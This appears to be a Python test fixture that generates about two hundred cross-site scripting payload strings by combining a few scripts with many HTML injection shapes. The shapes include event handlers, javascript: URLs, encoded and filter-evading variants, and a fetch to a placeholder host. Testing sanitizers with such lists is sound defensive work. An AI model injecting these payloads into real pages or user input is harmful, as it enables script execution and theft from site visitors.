"""What somebody may try to smuggle into a page."""


def payloads():
    """Two hundred ways to smuggle a script in."""
    scripts = ("alert(1)", "window.pwned=1", "fetch('//x')", "top.pwned=1")
    shapes = (
        *(
            "<script>{}</script>",
            "<img src=x onerror={}>",
            "<svg onload={}>",
            "<b onclick={}>x</b>",
        ),
        *(
            "<iframe src='javascript:{}'></iframe>",
            "<a href='javascript:{}'>x</a>",
            "javascript:{}",
        ),
        *('"><script>{}</script>', "'><img src=x onerror={}>", "</div><script>{}</script>"),
        *("<style>@import'javascript:{}'</style>", "<math><mtext><img onerror={} src></mtext>"),
        *("<details open ontoggle={}>", "<body onload={}>", "<object data='javascript:{}'>"),
        *("<form><button formaction='javascript:{}'>x", "<input autofocus onfocus={}>"),
        *(
            "&lt;script&gt;{}&lt;/script&gt;",
            "${{{}}}",
            "{{{{{}}}}}",
            "%3Cscript%3E{}%3C/script%3E",
        ),
        *("<scr<script>ipt>{}</script>", "\u202e<script>{}</script>", "<video><source onerror={}>"),
        *("<template><script>{}</script></template>", "<base href='//x/'><script>{}</script>"),
        *("<x style='animation:x' onanimationstart={}>", "<marquee onstart={}>"),
        *("<textarea></textarea><script>{}</script>", "<!--><script>{}</script>-->"),
        *(
            "<title><script>{}</script></title>",
            "<noscript><p title='</noscript><img onerror={}>'>",
        ),
        *("]]><script>{}</script>", "<link rel=import href='data:text/html,<script>{}</script>'>"),
        *("<meta http-equiv=refresh content='0;javascript:{}'>", "<embed src='javascript:{}'>"),
        *("<isindex action=javascript:{}>", "<table background='javascript:{}'>"),
        *("<div style='width:expression({})'>", "<limber-coach server='javascript:{}'>"),
        *("<audio src onerror={}>", "<select onfocus={} autofocus>", "<keygen onfocus={}>"),
        *("<a xlink:href='javascript:{}'>", "<animate onbegin={}>", "<set onend={}>"),
        *("<slot onslotchange={}>", "<dialog open onclose={}>", "<portal src='javascript:{}'>"),
        "<p>{}" + "A" * 400,
    )
    return [shape.format(script) for shape in shapes for script in scripts]
